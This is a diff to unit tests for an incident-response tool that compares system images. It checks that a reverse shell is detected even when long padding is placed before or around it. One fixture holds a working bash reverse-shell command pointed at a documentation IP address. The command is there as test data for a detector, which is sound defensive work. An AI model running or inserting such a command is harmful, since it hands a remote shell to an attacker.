@@ -14,7 +14,7 @@ from irkit.compare.ioc import IocLists
 from irkit.compare.noise import Noise
 from irkit.compare.rules import load_rules
 from irkit.compare.verdicts import Verdicts
-from tests.unit.compare.small_sides import side
+from tests.unit.compare.sides import side
 
 VERDICTS = Verdicts(load_rules(), Noise(()), None, IocLists(()))
 USERS = b"root:x:0:0:root:/root:/bin/bash\n"
@@ -52,14 +52,15 @@ def test_an_account_in_a_padded_file_is_not_overlooked(tmp_path: Path) -> None:
     assert "not-compared" in rules(found), "the image's own is too large to be kept"
 
 
-def test_the_beginning_of_a_long_text_is_searched_and_the_rest_is_a_gap(tmp_path: Path) -> None:
+def test_a_long_text_is_searched_and_what_can_not_be_is_a_gap(tmp_path: Path) -> None:
     shell = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
-    found = compared(side(tmp_path / "a", {}, {"/opt/run": shell + b"# pad\n" * 200_000}))
-    assert "reverse-shell-text" in rules(found)
+    found = compared(side(tmp_path / "a", {}, {"/opt/run": b"# pad\n" * 200_000 + shell}))
+    assert "reverse-shell-text" in rules(found) and found.gaps == []
+    found = compared(side(tmp_path / "d", {}, {"/opt/run": b"# pad " * 2_000_000 + shell}))
     (gap,) = (gap for gap in found.gaps if gap.what == "1 texts")
-    assert "beginning" in gap.why and "/opt/run" in gap.why
+    assert "in pieces" in gap.why and "/opt/run" in gap.why and "reverse-shell-text" in rules(found)
     old = b"# old\n" * 200_000
-    found = compared(side(tmp_path / "b", {"/opt/run": old}, {"/opt/run": old + shell}, originals={}))
+    found = compared(side(tmp_path / "b", {"/opt/run": old}, {"/opt/run": b"#" + old + shell}, originals={}))
     assert any("the image had" in gap.why for gap in found.gaps)
     found = compared(side(tmp_path / "c", {}, {"/opt/run": shell}))
     assert not any("texts" in gap.what for gap in found.gaps)
